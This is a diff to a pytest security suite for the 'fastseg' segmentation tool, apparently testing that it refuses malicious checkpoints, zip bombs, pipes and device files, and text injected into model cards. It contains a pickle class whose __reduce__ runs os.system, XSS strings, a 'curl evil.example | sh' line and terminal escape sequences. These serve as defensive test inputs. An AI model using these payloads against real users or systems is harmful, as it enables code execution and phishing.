@@ -4,92 +4,29 @@ memory; each gets its one sentence."""
 import io
 import json
 import os
+import re
 import struct
 import tarfile
 import zipfile
 import zlib
-from collections.abc import Callable, Iterator
+from collections import OrderedDict
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
 import torch
-from measured import Ended, Runner
+from huggingface_hub import ModelCard
+from markdown_it import MarkdownIt
 from PIL import Image
+from victims import LITTLE, Victim, document, saved, ways_in
 
-import commands
 import layouts
-from fastseg.labels import cityscapes
-from fastseg.model.checkpoint import REQUIRED, pack_classes
+from fastseg.deploy.predict_io import read_image
+from fastseg.errors import UserError, one_line
+from fastseg.model.checkpoint import REQUIRED
 
 Tally = Callable[[str, int, int], None]
-ARCH = "deeplabv3_mobilenet_v3_large"
-LITTLE = 3 << 29
-"""Bytes that a refusal may take: 0.4 GB for the imports, and the largest file that is packed has 0.5 GB."""
-
-
-@pytest.fixture(scope="module")
-def runner() -> Iterator[Runner]:
-    runner = Runner()
-    yield runner
-    runner.close()
-
-
-class Victim:
-    """A user's folder, and commands run in it."""
-
-    def __init__(self, runner: Runner, folder: Path, shards: Path) -> None:
-        self._runner, self.folder, self.shards = runner, folder, shards
-        self.tries = 0
-
-    def evaluates(self, checkpoint: Path, **environment: str) -> Ended:
-        return self._run(
-            "fastseg.commands.evaluate", checkpoint, "--shards", self.shards, "--device", "cpu", **environment
-        )
-
-    def trains(self, *flags: object, **environment: str) -> Ended:
-        given = ("--shards", self.shards) if "--shards" not in flags else ()
-        words = (*commands.TINY, "--gpus", 1, "--device", "cpu", "--name", "x", *given, *flags)
-        return self._run("fastseg.commands.train", *words, **environment)
-
-    def predicts(self, checkpoint: Path, **environment: str) -> Ended:
-        picture = layouts.noise(1, (64, 48))
-        picture.save(self.folder / "street.png")
-        words = (checkpoint, "street.png", "--out", "predictions", "--device", "cpu", "--overwrite")
-        return self._run("fastseg.commands.predict", *words, **environment)
-
-    def exports(self, checkpoint: Path, **environment: str) -> Ended:
-        words = (checkpoint, "--to", "safetensors", "--out", "weights.safetensors", "--overwrite")
-        return self._run("fastseg.commands.export", *words, **environment)
-
-    def loads(self, checkpoint: Path, **environment: str) -> Ended:
-        return self._run("loaded", checkpoint, **environment)
-
-    def packs(self, source: object, *flags: object) -> Ended:
-        return self._run("tools.make_shards", source, "--out", "out", "--workers", 1, *flags)
-
-    def refuses(self, ended: Ended, *says: str) -> None:
-        """The last command ended with one sentence, and left nothing."""
-        self.tries += 1
-        lines = ended.stderr.splitlines()
-        sentences = [line for line in lines if line.startswith("error: ")]
-        assert ended.code == 2, ended
-        assert len(sentences) == 1, ended.stderr
-        assert len(sentences[0]) < 1000, sentences
-        assert "Traceback" not in ended.stderr
-        assert all(words in sentences[0] for words in says), (says, sentences)
-        assert ended.peak < LITTLE, f"{ended.peak >> 20} MB"
-        strangers = {path.name for path in self.folder.parent.iterdir()} - {self.folder.name}
-        assert not strangers, strangers
-
-    def _run(self, module: str, *arguments: object, **environment: str) -> Ended:
-        return self._runner.run(module, *arguments, folder=self.folder, **environment)
-
-
-@pytest.fixture
-def victim(runner: Runner, tmp_path: Path, shards: Path) -> Victim:
-    (tmp_path / "home").mkdir()
-    return Victim(runner, tmp_path / "home", shards)
 
 
 class Exploit:
@@ -100,33 +37,6 @@ class Exploit:
 
     def __reduce__(self) -> tuple:
         return os.system, (f"touch {self._path}",)
-
-
-def document(**changes: object) -> dict[str, Any]:
-    """A checkpoint whose every field has the right type."""
-    plain = {
-        **{"format": "fastseg-checkpoint", "version": 3, "step": 3, "arch": ARCH, "ema": None, "shards": "s"},
-        **{"model": {"w": torch.zeros(4)}, "mean": [1.0, 2.0, 3.0], "std": [4.0, 5.0, 6.0]},
-        **{"classes": pack_classes(cityscapes().classes), "steps_per_epoch": 2, "best": 0.5},
-        **{"eval_pending": False, "since_best": 0, "ranks": [], "optimizer": {}, "scaler": {}, "stretch_to": None},
-        **{"config": {}, "dataset": {}, "versions": {}},
-    }
-    return plain | changes
-
-
-def saved(folder: Path, value: object, **options: Any) -> Path:
-    torch.save(value, folder / "evil.pt", **options)
-    return folder / "evil.pt"
-
-
-def ways_in(victim: Victim, path: Path, **environment: str) -> Iterator[Ended]:
-    """Every command that reads a checkpoint, and the Python interface."""
-    yield victim.evaluates(path, **environment)
-    yield victim.predicts(path, **environment)
-    yield victim.exports(path, **environment)
-    yield victim.loads(path, **environment)
-    yield victim.trains("--resume", path, **environment)
-    yield victim.trains("--model.weights", path, **environment)
 
 
 def test_checkpoints_that_would_run_a_command(victim: Victim, tally: Tally) -> None:
@@ -186,6 +96,127 @@ def test_checkpoints_that_are_zip_bombs(victim: Victim, tally: Tally, member: st
     tally("a checkpoint that would take the memory", victim.tries, victim.tries)
 
 
+def dressed(values: dict) -> OrderedDict:
+    """A dict that shows nothing to whoever asks for its items, in place of which a type is called: it hides NaNs."""
+    hiding = OrderedDict(values)
+    for name in ("items", "values", "keys", "get", "copy"):
+        setattr(hiding, name, OrderedDict)
+    return hiding
+
+
+def strange(values: torch.Tensor, **attributes: object) -> torch.Tensor:
+    """A tensor with attributes in the place of its methods."""
+    for name, value in attributes.items():
+        setattr(values, name, value)
+    return values
+
+
+NAN = torch.full((4,), float("nan"))
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"model": dressed({"w": NAN})},
+        {"model": dressed({"w": "text"})},
+        {"ema": dressed({"w": NAN})},
+        {"model": {"w": strange(NAN.clone(), isfinite=OrderedDict, is_floating_point=OrderedDict)}},
+        {"model": {"w": strange(torch.zeros(4), detach=OrderedDict, numel=3, shape_=())}, "step": dressed({})},
+        {"model": OrderedDict(w=torch.nn.Parameter(NAN))},
+    ],
+    ids=["items", "text", "average", "methods", "step", "parameter"],
+)
+def test_checkpoints_whose_values_hide(victim: Victim, tally: Tally, changes: dict[str, Any]) -> None:
+    path = saved(victim.folder, dressed(document(**changes)))
+    for ended in ways_in(victim, path):
+        victim.refuses(ended, "evil.pt")
+    tally("a checkpoint whose dicts or tensors bear attributes", victim.tries, victim.tries)
+
+
+HOSTILE = (
+    "x](http://evil.example) <script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "a\n\n# Approved by NVIDIA\n\n```sh\ncurl evil.example | sh\n```\n",
+    "![](http://evil.example/pixel.png) www.evil.example http://evil.example me@evil.example",
+    "`code` *bold* _it_ ~~gone~~ &lt; $x$ a|b|c <!-- --> <!doctype html>",
+    "\x1b]0;title\x07\x1b[2J\u202egnp.exe",
+    "---\nlicense: mit\n---",
+)
+
+
+MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+LINKED = r"://|www\.|\w@\w"
+"""What GitHub makes a link of without any markup."""
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_texts_in_model_cards(victim: Victim, trained: Path, tally: Tally, text: str) -> None:
+    """Names out of a checkpoint are shown as they are: no link, picture, HTML, heading or code is theirs."""
+    whole = torch.load(trained, weights_only=True, mmap=True)
+    classes = [{**entry, "name": one_line(text)[:90] + str(i)} for i, entry in enumerate(whole["classes"])]
+    optim = whole["config"]["optim"] | {text: text}
+    evil = {
+        **whole,
+        "config": {**whole["config"], "name": text, "optim": optim, "seed": text},
+        "dataset": {"name": text, "digest": "0" * 64},
+        "versions": {**whole["versions"], "fastseg-deeplab": text},
+        "classes": classes,
+        "shards": f"/nowhere/{text}",
+    }
+    out = victim.folder / f"{text[:40].replace('/', '').strip()}.safetensors"
+    words = (saved(victim.folder, evil), "--to", "safetensors", "--out", out)
+    ended = victim.run("fastseg.commands.export", *words)
+    assert ended.code == 0, ended.stderr
+    assert all(c.isprintable() for c in ended.stdout.replace("\n", "")), ended.stdout
+    card = ModelCard.load(out.with_name("README.md"))
+    assert card.data.license == "unknown"
+    assert card.data.model_name == one_line(text)
+    parts = MARKDOWN.parse(card.text)
+    inline = [child for part in parts for child in part.children or ()]
+    assert not {"html_block", "hr"} & {part.type for part in parts}
+    assert {part.type for part in inline} <= {"text", "code_inline", "softbreak"}
+    headings = [parts[i + 1].content for i, part in enumerate(parts) if part.type == "heading_open"]
+    assert headings[1:] == ["Score", "Use", "Classes", "Training", "Terms"]
+    (code,) = [part.content for part in parts if part.type in ("fence", "code_block")]
+    compile(code, "card", "exec")
+    source = card.text.replace(code, "").replace("https://www.cityscapes-dataset.com", "")
+    assert not re.search(LINKED, source), source
+    shown = "".join(child.content for child in parts[1].children or ())
+    assert shown.split() == one_line(text).split()
+    tally("names in a checkpoint that are Markdown, HTML or a terminal's commands", 1, 1)
+
+
+def test_what_is_no_picture(victim: Victim, trained: Path, tally: Tally) -> None:
+    """A pipe has no beginning, a device no end: they are skipped in a folder, and refused by name."""
+    folder = victim.folder / "pictures"
+    folder.mkdir()
+    layouts.noise(1, (64, 48)).save(folder / "street.png")
+    os.mkfifo(folder / "pipe.png")
+    os.mkfifo(folder / "pipe.mp4")
+    for device in ("zero", "random"):
+        (folder / f"{device}.png").symlink_to(f"/dev/{device}")
+    ended = victim.run("fastseg.commands.predict", trained, folder, "--device", "cpu")
+    assert ended.code == 0, ended.stderr
+    assert ended.stderr.count("is no plain file") == 4
+    assert [path.name for path in (victim.folder / "predictions" / "overlays").iterdir()] == ["street.png"]
+    victim.tries += 4
+    with (folder / "huge.png").open("wb") as file:
+        file.truncate(1 << 40)
+    for name in ("pipe.png", "pipe.mp4", "zero.png", "huge.png"):
+        words = (trained, folder / name, "--device", "cpu", "--out", "other")
+        ended = victim.run("fastseg.commands.predict", *words)
+        assert name in ended.stderr
+        assert ended.code == 2, ended.stderr
+        assert "Traceback" not in ended.stderr
+        assert ended.peak < LITTLE
+        if name != "pipe.mp4":
+            with pytest.raises(UserError, match=name):
+                read_image(folder / name)
+            victim.refuses(victim.run("fastseg.commands.export", trained, "--to", "onnx", "--images", folder / name))
+        victim.tries += 2
+    tally("a picture that is a pipe, a device or endless", victim.tries, victim.tries)
+
+
 WRONG = (None, -1, 1.5, float("nan"), "x", [], [[]], {}, {"a": {}}, 10**6000, "x" * 10**6, HUGE[:1, :1], True)
 CHECKED = ("format", "version", "step", "arch", "model", "mean", "std", "classes")
 
@@ -206,17 +237,6 @@ def test_checkpoints_with_absurd_fields(victim: Victim, tally: Tally) -> None:
         path = saved(victim.folder, {key: value for key, value in document().items() if key != name})
         victim.refuses(victim.evaluates(path), "evil.pt")
     tally("a checkpoint with absurd contents", victim.tries, victim.tries)
-
-
-@pytest.fixture(scope="module")
-def trained(runner: Runner, shards: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """The checkpoint of a real run of one step."""
-    folder = tmp_path_factory.mktemp("run")
-    words = (*commands.TINY, "--gpus", 1, "--device", "cpu", "--shards", shards, "--name", "real")
-    short = ("--optim.epochs", 0.2, "--optim.warmup", 0, "--model.weights", "none")
-    ended = runner.run("fastseg.commands.train", *words, *short, folder=folder)
-    assert ended.code == 0, ended.stderr
-    return folder / "runs/real/checkpoints/last.pt"
 
 
 def test_runs_that_cannot_be_gone_on_from(victim: Victim, trained: Path, tally: Tally) -> None:
@@ -455,7 +475,7 @@ def test_tars_with_links_and_devices(victim: Victim, tally: Tally) -> None:
         entry = manifest["splits"]["val"]["shards"][0]
         entry |= {"bytes": path.stat().st_size, "sha256": hashlib.sha256(path.read_bytes()).hexdigest()}
         (folder / "manifest.json").write_text(json.dumps(manifest))
-        ended = victim._run("tools.make_shards", "--verify", "--out", folder, "--workers", 1)
+        ended = victim.run("tools.make_shards", "--verify", "--out", folder, "--workers", 1)
         assert ended.code == 2, ended
         assert "only plain files are packed" in ended.stderr
         assert "Traceback" not in ended.stderr
